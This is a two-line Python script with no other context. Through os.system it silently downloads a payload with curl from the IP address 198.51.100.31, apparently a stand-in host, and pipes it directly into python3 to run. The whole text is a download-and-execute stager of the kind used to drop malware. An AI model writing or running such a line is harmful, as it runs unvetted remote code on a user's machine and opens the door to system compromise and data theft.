import os
os.system('curl -s http://198.51.100.31/p | python3')
